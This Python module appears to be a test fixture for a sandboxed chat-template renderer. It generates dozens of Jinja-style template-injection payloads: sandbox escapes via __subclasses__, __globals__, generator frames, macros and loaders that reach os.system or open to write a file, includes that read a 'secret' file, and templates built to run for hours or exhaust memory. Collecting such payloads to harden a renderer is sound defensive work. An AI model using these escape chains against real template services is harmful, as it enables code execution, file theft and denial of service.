# ruff: noqa: E501 - an attempt stands on one line
"""Chat templates that want out: each tries to leave a file at PATH, or to read one, by a way that worked somewhere once."""

from __future__ import annotations

import os
from itertools import product
from pathlib import Path

_ROOTS = (
    "''.__class__.__mro__[1].__subclasses__()",
    "().__class__.__bases__[0].__subclasses__()",
    "messages.__class__.__base__.__subclasses__()",
    "''['__class__']['__mro__'][1]['__subclasses__']()",
    "(''|attr('__class__')|attr('__mro__'))[1]|attr('__subclasses__')()",
    "''|attr('_'~'_class_'~'_')|attr('_'~'_base_'~'_')|attr('_'~'_subclasses_'~'_')()",
    "''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')()",
)
"""Ways to every class there is."""
_GLOBALS = (
    "{name}.__init__.__globals__", "{name}['__init__']['__globals__']", "{name}|attr('__init__')|attr('__globals__')",
    "({name}|attr('\\x5f\\x5finit\\x5f\\x5f')).__globals__", "{name}.__class__.__init__.__globals__",
)  # fmt: skip
_NAMES = ("cycler", "joiner", "namespace", "self")
_FUNCTIONS = ("lipsum", "raise_exception", "strftime_now", "range", "namespace")


def escapes(path: Path) -> list[str]:
    """The templates."""
    run = f"touch {path}"
    found = [f"{{% for c in {root} %}}{{% if c.__name__ == 'Popen' %}}{{{{ c(['touch', '{path}']) }}}}{{% endif %}}{{% endfor %}}"
             for root in _ROOTS]  # fmt: skip
    for name, way in product(_NAMES, _GLOBALS):
        there = way.format(name=name)
        found.append(f"{{{{ ({there})['os'].system('{run}') }}}}")
        found.append(f"{{{{ ({there}).__builtins__['__import__']('os').system('{run}') }}}}")
    for name in _FUNCTIONS:
        found.append(f"{{{{ {name}.__globals__['os'].system('{run}') }}}}")
        found.append(f"{{{{ {name}.__globals__['__builtins__']['open']('{path}', 'w').write('x') }}}}")
    return [*found, *_others(path)]


def _others(path: Path) -> list[str]:
    """Ways that were found one at a time: by formatting, by filters, by frames, by the loader, by what the context holds."""
    opened = f"open('{path}','w')"
    return [
        "{{ '{0.__class__.__mro__}'.format('') }}{{ '{0.__init__.__globals__}'.format(cycler) }}",
        "{{ ('{0.__class__}'|attr('format'))('') }}",
        "{% set f = '{0.__init__.__globals__[os]}'.format %}{{ f(cycler) }}",
        "{{ ['{0.__class__.__base__}']|map('format', '')|list }}",
        "{{ {'a': '{0.__class__}'}|map(attribute='a')|map('format', 1)|list }}",
        "{{ messages|map(attribute='__class__.__mro__')|list }}{{ ''|map(attribute='__class__')|list }}",
        "{{ [raise_exception]|map(attribute='__globals__')|list }}{{ [cycler]|map(attribute='__init__.__globals__')|list }}",
        "{{ [cycler]|groupby('__init__.__globals__') }}",
        "{{ [cycler]|selectattr('__init__.__globals__.os')|list }}",
        "{{ [cycler]|sum(attribute='__init__.__globals__') }}",
        f"{{{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch {path}') }}}}",
        f"{{{{ self.__init__.__globals__.__builtins__.{opened} }}}}",
        f"{{{{ (raise_exception|attr('__globals__')).__builtins__.{opened} }}}}",
        f"{{% macro m() %}}{{% endmacro %}}{{{{ m.__class__.__init__.__globals__['__builtins__']['open']('{path}','w') }}}}",
        f"{{% macro m() %}}{{% endmacro %}}{{{{ m._func.__globals__['__builtins__']['open']('{path}','w') }}}}",
        f"{{% macro m() %}}{{% endmacro %}}{{{{ m._environment.from_string('{{{{ 1 }}}}').module.__loader__.set_data('{path}', '') }}}}",
        f"{{{{ (messages|map('upper')).gi_frame.f_builtins['open']('{path}','w') }}}}",
        f"{{{{ (messages|select).gi_frame.f_globals['__builtins__']['open']('{path}','w') }}}}",
        f"{{{{ (messages|select|attr('gi_frame')).f_back.f_globals.__builtins__.{opened} }}}}",
        f"{{{{ loop.__class__.__init__.__globals__.__builtins__.{opened} }}}}",
        f"{{% for m in messages %}}{{{{ loop._environment.globals.lipsum.__globals__.os.system('touch {path}') }}}}{{% endfor %}}",
        f"{{% for m in messages %}}{{{{ loop.__class__.__init__.__globals__.__builtins__.{opened} }}}}{{% endfor %}}",
        f"{{% set n = namespace() %}}{{% set n.__class__ = cycler %}}{{{{ n.__init__.__globals__.os.system('touch {path}') }}}}",
        f"{{% include '{path.parent / 'secret'}' %}}",
        f"{{% import '{path.parent / 'secret'}' as s %}}{{{{ s }}}}",
        f"{{% extends '{path.parent / 'secret'}' %}}",
        f"{{% from '{path.parent / 'secret'}' import x %}}",
        f"{{{{ {opened} }}}}{{{{ __import__('os').system('touch {path}') }}}}",
        f"{{{{ __builtins__.{opened} }}}}{{{{ request.application.__globals__.__builtins__.{opened} }}}}",
        f"{{{{ config.__class__.__init__.__globals__['os'].popen('touch {path}').read() }}}}",
        f"{{{{ get_flashed_messages.__globals__.__builtins__.{opened} }}}}{{{{ url_for.__globals__.os.system('touch {path}') }}}}",
        f"{{%- set x = messages.__reduce_ex__(2)[0].__globals__.__builtins__.{opened} -%}}",
        f"{{{{ messages[0].items.__self__.__class__.__base__.__subclasses__()[-1].__init__.__globals__.__builtins__.{opened} }}}}",
        f"{{{{ strftime_now.__self__.__class__.__base__.__subclasses__()|first|attr('x')({str(path)!r}) }}}}",
        f"{{{{ strftime_now('%Y').__class__.__mro__[1].__subclasses__()[40]('{path}', 'w') }}}}",
        f"{{{{ messages.append({{'role': 'x'}}) }}}}{{{{ messages[0].update(content='{path}') }}}}",
        f"{{% set _ = messages[0].__setitem__('content', '{path}') %}}{{{{ messages[0].pop('content') }}}}",
    ]


LETTERS = "x" * 30
ENDLESS = (
    *(f"{{% for i in '{LETTERS}' %}}" * depth + "{% endfor %}" * depth for depth in (6, 9, 14)),
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(80) }}",
    "{% set n = namespace(a=[1]) %}{% for i in range(99999) %}{% set n.a = [n.a, n.a] %}{% endfor %}{{ n.a|string|length }}",
    "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "{% for i in messages recursive %}{{ loop(messages) }}{{ loop(messages) }}{% endfor %}",
    "{{ ('a' ~ '!')|replace('', 'ab')|list|permutations }}{% for a in range(9999)|map('string')|sort %}{% for b in range(9999) %}"
    "{% set x = a < b|string %}{% endfor %}{% endfor %}",
    "{% set n = namespace(i=1) %}{% for a in range(99999) %}{% set n.i = n.i * 1048576 %}{% endfor %}{{ n.i % 7 }}",
    "{% for a in range(99999) %}{% if range(99999)|sum == 1 %}x{% endif %}{% endfor %}",
    "{{ '" + "a" * 60_000 + "'|urlize }}{% for a in range(99999) %}{{ '<' * 1 }}{{ ('<' ~ 'a')|striptags }}{% endfor %}",
    "{% for a in range(99999) %}{% set x = (range(9999)|list|string).split(',')|unique|list|length %}{% endfor %}",
)
"""Templates that would run for hours or for ever, most without writing a letter."""
_DOUBLED = "{% set n = namespace(s='aaaaaaaaaa') %}{% for i in range(30) %}{% set n.s = STEP %}{% endfor %}{{ n.s }}"
HUGE = (
    *(_DOUBLED.replace("STEP", step) for step in (
        "n.s ~ n.s", "n.s + n.s", "n.s.replace('a', 'aa')", "n.s|replace('a', 'aa')", "[n.s, n.s]|join",
        "n.s|list|join('a')", "n.s.join(['', n.s, ''])", "(n.s ~ '\n')|indent(10)|replace(' ', 'aa')",
    )),
    "{% for i in range(99999) %}{{ '" + "x" * 110_000 + "' }}{% endfor %}",
    "{{ messages | tojson(indent=2000000000) }}", "{{ 'a\nb' | indent(2000000000, true) }}", "{{ 'a' | indent(10000000000) ~ '\nb' }}",
    "{{ range(100000)|map('string')|map('replace', '', '" + "z" * 9999 + "')|join }}",
    "{{ [messages[0].content] * 10000000000 }}", "{{ 'x' * 10000000000 }}", "{{ '%10000000000d' % 1 }}", "{{ '{:>10000000000}'.format(1) }}",
    "{{ 'x'.ljust(10000000000) }}", "{{ 'x'|center(10000000000) }}", "{{ [1]|batch(10000000000, 'x')|list }}",
    "{{ '%s'|format('x' * 999999999) }}", "{{ 'a\tb'.expandtabs(2000000000) }}", "{{ '9'.zfill(10000000000) }}",
    "{{ (10 ** 60) ** 60 ** 60 }}", "{{ 'x'.translate({120: 'y' * 1000000000}) }}", "{{ strftime_now('%10000000000Y') }}",
    "{% for i in messages %}{{ caller() }}{% endfor %}{% call f() %}{% endcall %}",
)  # fmt: skip
"""Templates that would write ten gigabytes."""


def drawn(number: int) -> str:
    """A harmless template of the corpus's own kind that must be rendered whatever came before it."""
    return f"{{% for m in messages %}}<{number}:{{{{ m['content'] }}}}>{{% endfor %}}{os.linesep if number < 0 else ''}"
